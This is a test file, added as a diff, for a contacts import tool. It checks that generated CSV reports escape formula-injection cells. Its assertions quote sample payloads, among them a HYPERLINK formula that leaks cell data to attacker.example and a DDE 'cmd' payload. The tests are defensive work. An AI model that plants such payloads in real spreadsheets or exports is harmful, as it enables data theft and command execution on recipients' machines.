@@ -1,0 +1,94 @@
+import { readFileSync } from "node:fs"
+import { assert, describe, layer } from "@effect/vitest"
+import {
+  ContactStore,
+  defaultImportSettings,
+  IdGenerator,
+  importFile,
+  jobReport
+} from "@xcontacts/domain"
+import { parse } from "csv-parse/sync"
+import { Effect, Layer, Stream } from "effect"
+import { storesLayer } from "../src/index.ts"
+
+const fixture = readFileSync(
+  new URL("../../../../shared/fixtures/messy/29-formula-injection-cells.csv", import.meta.url),
+  "utf8"
+)
+
+const file = (text: string) => ({
+  name: "29-formula-injection-cells.csv",
+  open: async function* () {
+    yield new TextEncoder().encode(text)
+  }
+})
+
+const settings = { ...defaultImportSettings, organizationKey: "name" as const, division: "fx" }
+
+const reportOf = (text: string, failedOnly: boolean) =>
+  Effect.gen(function* () {
+    const job = yield* importFile({ file: file(text), settings, dryRun: false })
+    const report = yield* jobReport(job.id, { failedOnly, source: file(text) })
+    const lines = yield* Stream.runCollect(report)
+    return { job, text: lines.join("") }
+  })
+
+const stores = Layer.merge(storesLayer({ _tag: "Pglite", dataDir: null }), IdGenerator.layer)
+
+layer(stores, { timeout: 60_000 })("a job's report on PGlite", (it) => {
+  describe("of a file with formula cells", () => {
+    it.effect("holds no cell a spreadsheet would run", () =>
+      Effect.gen(function* () {
+        const { text } = yield* reportOf(fixture, false)
+        const rows = parse(text) as Array<Array<string>>
+        assert.strictEqual(rows.length, 5)
+        const cells = rows.flat()
+        assert.deepStrictEqual(
+          cells.filter((cell) => /^[=+\-@\t\r]/u.test(cell)),
+          []
+        )
+        assert.include(cells, '\'=HYPERLINK("http://attacker.example/?x="&A1,"open")')
+        assert.include(cells, "'@SUM(1+1)")
+        assert.include(cells, "'=1+2")
+        assert.include(cells, "'-2+3")
+        assert.include(cells, "'+cmd|' /C calc'!A0")
+        assert.include(cells, "'\t=1+1")
+      })
+    )
+
+    it.effect("imports again once its failed rows are corrected", () =>
+      Effect.gen(function* () {
+        const { job, text } = yield* reportOf(fixture, true)
+        assert.strictEqual(job.counters.rowsFailed, 1)
+        const rows = parse(text) as Array<Array<string>>
+        assert.deepStrictEqual(
+          rows.map((row) => row[0]),
+          ["external_id", "C-2901"]
+        )
+        assert.strictEqual(rows[1]![rows[0]!.indexOf("outcome")], "failed")
+
+        const corrected = text.replace("not-an-email", "doe@example.com")
+        const again = yield* importFile({ file: file(corrected), settings, dryRun: false })
+        assert.strictEqual(again.state, "completed")
+        assert.strictEqual(again.counters.rowsFailed, 0)
+        assert.strictEqual(again.counters.contacts.created, 1)
+        // The file's own unknown column stays unknown; the report's five columns are not.
+        const unknown = (problems: typeof job.problems) =>
+          problems
+            .filter((problem) => problem.code === "UNKNOWN_COLUMN")
+            .map((problem) => problem.message)
+        assert.deepStrictEqual(unknown(again.problems), unknown(job.problems))
+        assert.match(unknown(again.problems).join(), /"notes"/u)
+        for (const column of ["line", "outcome", "contact_id", "organization_id", "messages"]) {
+          assert.notInclude(unknown(again.problems).join(), `"${column}"`)
+        }
+        const contacts = yield* ContactStore.use((store) =>
+          store.list({ division: "fx", limit: 100 })
+        )
+        const doe = contacts.find((contact) => contact.lastName === "Doe")!
+        assert.strictEqual(doe.workEmail, "doe@example.com")
+        assert.strictEqual(doe.firstName, '=HYPERLINK("http://attacker.example/?x="&A1,"open")')
+      })
+    )
+  })
+})
